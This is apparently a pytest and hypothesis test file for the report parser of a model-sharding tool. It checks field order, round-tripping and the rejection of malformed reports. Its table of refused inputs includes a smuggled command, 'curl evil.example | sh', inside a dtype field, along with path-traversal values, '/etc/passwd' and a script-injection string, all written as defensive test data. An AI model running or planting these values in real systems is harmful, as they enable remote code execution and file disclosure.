"""Reports from anybody: what this tool writes is read, all else is refused in one sentence."""

import json
from dataclasses import replace
from functools import reduce
from typing import Any, get_args

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from sharding.core.errors import SourceError
from sharding.core.limits import CURVE_MOMENTS
from sharding.core.options import Options
from sharding.core.origin import Place
from sharding.core.text import json_file
from sharding.core.values import Component, Content, FileEntry, Finding, Library, ShardRecord, Stage, TiedTensor
from sharding.core.verification import Evidence, Mismatch, Read, Verification
from sharding.loading.costs import Cause, ClassicCost, Comparison, Kind, LoadCost, Moment, Prediction, Side, Verdict
from sharding.report.report import make_report
from sharding.report.schema import Report, Resources, parse_report, to_json
from tests.report.results import LIMIT, MERGE, made, of
from tests.tensors import plan_of, stored_tensor


@pytest.fixture
def document() -> dict[str, Any]:
    """A report as JSON, which a test may change."""
    report: dict[str, Any] = json.loads(json.dumps(to_json(made().report)))
    return report


KEYS = {
    "": "schema tool finished engine source destination plan plan_id shards files verification overflowed resources "
    "fleet comparison",
    "source": "store repo_id revision architecture library variant other_variants in_pieces beside total_bytes "
    "total_parameters tensors dtypes components weight_files",
    "source components 0": "folder base metadata",
    "source weight_files 0": "file bytes tensors",
    "destination": "store repo_id revision",
    "plan": "max_shard_bytes strategy order total_bytes total_parameters shards weight_map stages pipeline rank "
    "findings plan_id",
    "plan shards 0": "file bytes tensors",
    "shards 0": "file bytes sha256",
    "verification": "identical outcome method tensors bytes seconds evidence mismatches",
    "verification evidence": "read structure rebuilt reread weights loaded kept beside measured original sampled xet",
    "resources": "peak_anon_bytes seconds bytes_read read_requests bytes_uploaded bytes_deduplicated disk_bytes_written",
}


def within(document: Any, path: str) -> Any:
    """The value at a place, such as "shards 0"."""
    return reduce(lambda value, key: value[int(key) if key.isdigit() else key], path.split(), document)


def test_a_report_has_these_keys_in_this_order(document: dict[str, Any]) -> None:
    for path, keys in KEYS.items():
        assert list(within(document, path)) == keys.split(), path
    merged = to_json(made(made=(MERGE,)).report)
    cast = to_json(made(Options(LIMIT, dtype="bf16")).report)["plan"]
    assert cast["asked"] == {"dtype": "bf16"} and list(cast)[2:6] == ["order", "asked", "made", "total_bytes"]
    change = "kind done called how then changed of by is_exact keeps_size relation evidence caveat peer"
    assert [*cast["made"][0]] == [*merged["plan"]["made"][0]] == change.split()
    lora = {"store": "hub", "repo_id": "bob/lora", "revision": "b" * 40, "inside": "sub/", "role": "adapter"}
    assert [*merged["source"]["beside"], merged["plan"]["made"][0]["by"]] == [lora] * 2


TEXT = st.text(st.characters(exclude_categories=["Cs"]), max_size=40)
FILES = st.text(st.characters(exclude_categories=["Cs", "Cc"], exclude_characters="/\\<>"), min_size=1, max_size=20)
PATHS = st.lists(FILES.filter(lambda name: name[0] != "."), min_size=1, max_size=2).map("/".join)
COUNTS = st.integers(0, 2**62)
SECONDS = st.floats(0, 1e8)
FINDINGS = st.lists(st.builds(Finding, st.sampled_from(["info", "warning"]), TEXT, TEXT, TEXT)).map(tuple)
FOLDERS = st.builds(Place, st.just("folder"), TEXT.map(lambda text: f"a{text}".replace("/", "|")), TEXT)
HUBS = st.builds(
    Place, st.just("hub"), st.from_regex("[a-z]{1,9}/[A-Za-z0-9_][a-z._-]{1,20}", fullmatch=True), st.just("0a" * 20)
)
STAGES = st.builds(
    Stage,
    *[st.lists(TEXT).map(tuple)] * 2,
    st.lists(PATHS, min_size=1).map(tuple),
    COUNTS,
    st.lists(st.builds(TiedTensor, TEXT, PATHS, st.lists(TEXT).map(tuple))).map(tuple),
)
LOADS = st.builds(
    LoadCost,
    *[st.sampled_from(["loaded", "failed"]), TEXT, TEXT, st.none() | TEXT, st.none() | TEXT, TEXT],
    st.fixed_dictionaries({"load": SECONDS}, optional={"import": SECONDS, "tokens": SECONDS}),
    *[COUNTS] * 3,
    st.lists(st.builds(Moment, SECONDS, COUNTS, COUNTS, COUNTS), max_size=CURVE_MOMENTS).map(tuple),
    architecture=TEXT,
    files=COUNTS,
    mapped_bytes=st.none() | COUNTS,
    stored_dtypes=st.none() | st.dictionaries(TEXT, COUNTS),
    tokens=st.lists(st.integers()).map(tuple),
)
EVIDENCE = st.builds(Evidence, st.sampled_from(get_args(Read)), st.booleans(), *[COUNTS] * 3)
SIDES = st.lists(LOADS, max_size=3).map(tuple)
PREDICTIONS = st.builds(Prediction, COUNTS, COUNTS)
COMPARISONS = st.builds(
    Comparison,
    *[TEXT, st.none() | TEXT, st.booleans(), st.none() | COUNTS, SIDES, SIDES],
    st.builds(Verdict, st.sampled_from(get_args(Kind)), st.none() | st.sampled_from(get_args(Cause)), TEXT),
    *[st.dictionaries(st.sampled_from(get_args(Side)), PREDICTIONS), TEXT, TEXT],
    st.none() | st.builds(ClassicCost, st.none() | SECONDS, COUNTS, COUNTS, TEXT, COUNTS, TEXT),
)


@st.composite
def reports(draw: st.DrawFn) -> Report:
    """What a job could report of a source with any names that a source can have."""
    files = [
        f"{path}.safetensors"
        for path in draw(st.lists(FILES.filter(lambda name: name[0] != "."), min_size=1, max_size=3, unique=True))
    ]
    names = draw(st.lists(TEXT, min_size=1, max_size=9, unique=True))
    tensors = tuple(
        stored_tensor(name, "U8", (8,), files[n % len(files)], 8 * n, 8 * n + 8) for n, name in enumerate(names)
    )
    checkpoint = Content(
        *[draw(FOLDERS | HUBS), tensors, (Component(metadata=draw(st.dictionaries(TEXT, TEXT))),)],
        *[
            tuple(FileEntry(file, draw(COUNTS)) for file in files),
            tuple(FileEntry(path, 1) for path in draw(st.lists(PATHS))),
        ],
        draw(FINDINGS),
        draw(st.none() | TEXT),
        draw(st.sampled_from(get_args(Library))),
        other_variants=tuple(draw(st.lists(TEXT))),
    )
    planned = plan_of(checkpoint, Options(draw(st.integers(8, 99))), {})
    files = st.lists(st.sampled_from([shard.file for shard in planned.shards]), min_size=1).map(tuple)
    stages = st.lists(st.builds(lambda stage, files: replace(stage, files=files), STAGES, files), max_size=3)
    plan = replace(planned, stages=tuple(draw(stages)))
    # What differs was not published; where nothing does, all was verified that was planned.
    mismatches = tuple(draw(st.lists(st.builds(Mismatch, TEXT, TEXT))))
    counts = (draw(COUNTS), draw(COUNTS)) if mismatches else (len(names), plan.total_bytes)
    return make_report(
        *[checkpoint, plan, draw(TEXT)],
        {
            shard.file: ShardRecord(
                *(shard.file, shard.bytes + draw(st.integers(1, 2**61)), "0a" * 32, {}),
                overflowed=draw(st.dictionaries(TEXT, COUNTS)),
            )
            for shard in plan.shards
        },
        Verification(*counts, draw(SECONDS), draw(EVIDENCE), mismatches),
        draw(st.builds(Resources, COUNTS, SECONDS, *[COUNTS] * 5)),
        destination=draw(FOLDERS | HUBS),
        engine=draw(st.sampled_from(["stream", "classic"])),
        comparison=draw(st.none() | COMPARISONS),
    )


@settings(max_examples=25)
@given(reports())
def test_what_is_written_is_read_back_as_it_was(report: Report) -> None:
    text = json_file(to_json(report))
    assert parse_report(text) == report
    written = json.loads(text)
    assert written["verification"]["identical"] is report.verification.identical
    assert written["plan"]["weight_map"] == {
        name: shard["file"] for shard in written["plan"]["shards"] for name in shard["tensors"]
    }


def input_at(store: str, repo_id: str, revision: str = "1", role: str = "base") -> list[dict[str, str]]:
    """One more input, as a report names it."""
    return [{"store": store, "repo_id": repo_id, "revision": revision, "role": role}]


CHANGES: dict[str, tuple[str, Any]] = {
    "another schema": ("schema", 2),
    "a text for the schema": ("schema", "1"),
    "a number for a list": ("shards", 7),
    "a list for an object": ("plan", []),
    "nothing for an object": ("source", None),
    "a number for a text": ("tool", 7),
    "a text for a number": ("resources bytes_read", "12"),
    "less than nothing": ("verification tensors", -1),
    "more than there can be": ("plan total_bytes", 2**70),
    "no number": ("resources seconds", float("nan")),
    "a path for a file": ("shards 0 file", "../../x"),
    "a path that begins at the root": ("plan shards 0 file", "/etc/passwd"),
    "markup for a file": ("shards 0 file", "<script>alert(1)</script>"),
    "another digest": ("shards 0 sha256", "0" * 63 + "G"),
    "no shards": ("plan shards", []),
    "a repo that is none": ("source", {"store": "hub", "repo_id": "../../x"}),
    "a text that is very long": ("tool", "x" * 3000),
    "something else that was read": ("verification evidence read", "everything"),
    "no date": ("finished", "yesterday"),
    "a command for a dtype": ("plan asked", {"dtype": "fp16; curl evil.example | sh #"}),
    "an option that there is not": ("plan asked", {"evil": True}),
    "an option that decides no number": ("plan asked", {"allow_overflow": True}),
    "an option that the plan has already": ("plan asked", {"strategy": "blocks"}),
    "an input among the options": ("plan asked", {"adapter": "evil/lora"}),
    "another kind of value": ("plan asked", {"variant": True}),
    "a branch for a commit": ("source", {"store": "hub", "repo_id": "me/model", "revision": "main"}),
    "a path for a weight file of the source": ("source weight_files 0 file", "../../x"),
    "a base that is none": ("source beside", input_at("hub", "../../x", "a" * 40)),
    "a command for a base": ("source beside", input_at("hub", "a/b; evil", "a" * 40)),
    "a branch for the commit of a base": ("source beside", input_at("hub", "a/b", "main")),
    "a folder without a name": ("source", {"store": "folder", "repo_id": ""}),
    "the folder .": ("source", {"store": "folder", "repo_id": "."}),
    "a folder with a repo's name": ("source", {"store": "folder", "repo_id": "me/model"}),
    "a base without a name": ("source beside", input_at("folder", "")),
    "a base in a folder with a repo's name": ("source beside", input_at("folder", "a/b")),
    "another store of a base": ("source beside", input_at("s3", "a/b", "a" * 40)),
    "two bases": ("source beside", 2 * input_at("folder", "a")),
    "another role": ("source beside", input_at("folder", "a", "1", "evil")),
    "fewer bytes than planned": ("plan total_bytes", 7),
    "a source with more tensors": ("source tensors", 99),
    "a source with more bytes": ("source total_bytes", 10**9),
    "a rank of no pipeline": ("plan rank", 0),
    "a pipeline without stages": ("plan pipeline", {"transformers": "5.23.0", "layers": [[0, 2], [2, 4]]}),
    "a pipeline that is a command": ("plan pipeline", {"transformers": '5"); evil()', "layers": [[0, 2], [2, 4]]}),
    "a stage of files that are none": (
        "plan stages",
        [{"modules": [], "blocks": [], "files": ["x.safetensors"], "bytes": 1, "also_needs": []}],
    ),
}


@pytest.mark.parametrize("change", CHANGES)
def test_what_this_tool_does_not_write_is_refused(document: dict[str, Any], change: str) -> None:
    path, value = CHANGES[change]
    place, last = within(document, path.rpartition(" ")[0]), path.rpartition(" ")[2]
    place[last] = {**(place.get(last) or {}), **value} if isinstance(value, dict) else value
    with pytest.raises(SourceError, match="is not a report of this tool"):
        parse_report(json.dumps(document))


@given(st.binary() | st.recursive(st.none() | st.text() | st.integers() | st.floats(), lambda inner: st.lists(inner) | st.dictionaries(st.text(), inner)).map(json.dumps) | st.just("[" * 1_000_000))  # fmt: skip
def test_anything_at_all_is_refused_in_one_sentence(text: bytes | str) -> None:
    with pytest.raises(SourceError) as caught:
        parse_report(text)
    assert len(caught.value.message) < 500


def test_a_tensor_that_is_planned_twice_is_refused(document: dict[str, Any]) -> None:
    first, second = document["plan"]["shards"][:2]
    second["tensors"] = first["tensors"]
    with pytest.raises(SourceError, match="a tensor is planned twice"):
        parse_report(json.dumps(document))


def test_a_base_that_the_page_would_show_is_read() -> None:
    for name, revision, store in (("me/base", "a" * 40, "hub"), ("my base; ..x", "1", "folder")):
        report = of(made().report, beside=(Place(store, name, revision, role="base"),))
        assert parse_report(json.dumps(to_json(report))) == report
